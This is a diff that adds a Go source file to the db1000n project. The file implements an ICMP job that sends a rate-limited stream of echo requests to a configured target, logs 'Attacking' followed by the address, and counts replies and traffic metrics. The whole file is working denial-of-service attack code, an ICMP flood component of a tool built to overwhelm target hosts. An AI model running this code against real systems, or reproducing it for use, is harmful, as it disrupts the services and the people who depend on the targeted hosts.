@@ -0,0 +1,207 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+package job
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"log"
+	"math/rand"
+	"net"
+	"os"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/google/uuid"
+	"go.uber.org/zap"
+	"golang.org/x/net/icmp"
+	"golang.org/x/net/ipv4"
+
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+// defaultICMPPayloadSize matches the payload size of the ping utility
+const defaultICMPPayloadSize = 56
+
+type icmpJobConfig struct {
+	BasicJobConfig
+
+	Address   string         // target host or ipv4 address
+	Payload   string         // echo data, zeroes of defaultICMPPayloadSize by default
+	RateLimit float64        `mapstructure:"rate_limit"` // echo requests per second, no limit if not positive
+	Timeout   *time.Duration // how long to wait for the replies after the last request
+}
+
+// icmpJob sends icmp echo requests to the target and counts the replies, requires raw socket privileges.
+// Returns the amount of sent requests and received replies
+func icmpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig icmpJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	if jobConfig.Address == "" {
+		return nil, errors.New("no address provided")
+	}
+
+	payloadTpl, err := templates.Parse(jobConfig.Payload)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing payload template: %w", err)
+	}
+
+	conn, err := icmp.ListenPacket("ip4:icmp", "0.0.0.0")
+	if errors.Is(err, os.ErrPermission) {
+		return nil, fmt.Errorf("icmp job requires raw socket privileges (run as root or grant CAP_NET_RAW): %w", err)
+	} else if err != nil {
+		return nil, fmt.Errorf("error opening icmp socket: %w", err)
+	}
+
+	defer conn.Close()
+
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
+	// raw sockets receive all the icmp packets so the id is used to pick replies to this job
+	id := rand.Intn(1 << 16) //nolint:gosec // Cryptographically secure random not required
+
+	var (
+		wg             sync.WaitGroup
+		sent, received uint64
+	)
+
+	wg.Add(1)
+
+	go func() {
+		defer wg.Done()
+		defer utils.PanicHandler(logger)
+
+		readICMPReplies(conn, id, func(addr string, size int) {
+			atomic.AddUint64(&received, 1)
+			processedTrafficMonitor.Add(uint64(size))
+			metrics.IncICMPReply(addr)
+		})
+	}()
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", jobConfig.Address)
+	}
+
+	limiter := utils.NewRateLimiter(jobConfig.RateLimit)
+
+	for seq := 0; jobConfig.Next(ctx); seq++ {
+		if !utils.Sleep(ctx, limiter.Reserve()) {
+			break
+		}
+
+		addr := templates.ParseAndExecute(logger, jobConfig.Address, ctx)
+		payload := []byte(templates.Execute(logger, payloadTpl, ctx))
+
+		if len(payload) == 0 {
+			payload = make([]byte, defaultICMPPayloadSize)
+		}
+
+		n, err := sendICMPEcho(conn, addr, id, seq, payload)
+		trafficMonitor.Add(uint64(n))
+
+		if err != nil {
+			logger.Debug("error sending icmp echo", zap.String("addr", addr), zap.Error(err))
+			metrics.IncRawnetICMP(addr, metrics.StatusFail)
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+
+			continue
+		}
+
+		sent++
+
+		metrics.IncRawnetICMP(addr, metrics.StatusSuccess)
+		backoffController.Reset()
+	}
+
+	// give the last replies a chance to arrive unless the job is cancelled
+	deadline := time.Now()
+	if ctx.Err() == nil {
+		deadline = deadline.Add(utils.NonNilDurationOrDefault(jobConfig.Timeout, time.Second))
+	}
+
+	if err := conn.SetReadDeadline(deadline); err != nil {
+		conn.Close()
+	}
+
+	wg.Wait()
+
+	return map[string]interface{}{"sent": sent, "received": atomic.LoadUint64(&received)}, nil
+}
+
+func sendICMPEcho(conn *icmp.PacketConn, addr string, id, seq int, payload []byte) (int, error) {
+	ip, err := net.ResolveIPAddr("ip4", addr)
+	if err != nil {
+		return 0, err
+	}
+
+	msg := icmp.Message{
+		Type: ipv4.ICMPTypeEcho,
+		Body: &icmp.Echo{ID: id, Seq: seq, Data: payload},
+	}
+
+	packet, err := msg.Marshal(nil)
+	if err != nil {
+		return 0, err
+	}
+
+	return conn.WriteTo(packet, ip)
+}
+
+// readICMPReplies reads echo replies with the id until the connection is closed or the read deadline is exceeded
+func readICMPReplies(conn *icmp.PacketConn, id int, onReply func(addr string, size int)) {
+	const icmpProtocol = 1 // iana protocol number of icmp for ipv4
+
+	buf := make([]byte, 1<<16)
+
+	for {
+		n, peer, err := conn.ReadFrom(buf)
+		if err != nil {
+			return
+		}
+
+		msg, err := icmp.ParseMessage(icmpProtocol, buf[:n])
+		if err != nil || msg.Type != ipv4.ICMPTypeEchoReply {
+			continue
+		}
+
+		if echo, ok := msg.Body.(*icmp.Echo); ok && echo.ID == id {
+			onReply(peer.String(), n)
+		}
+	}
+}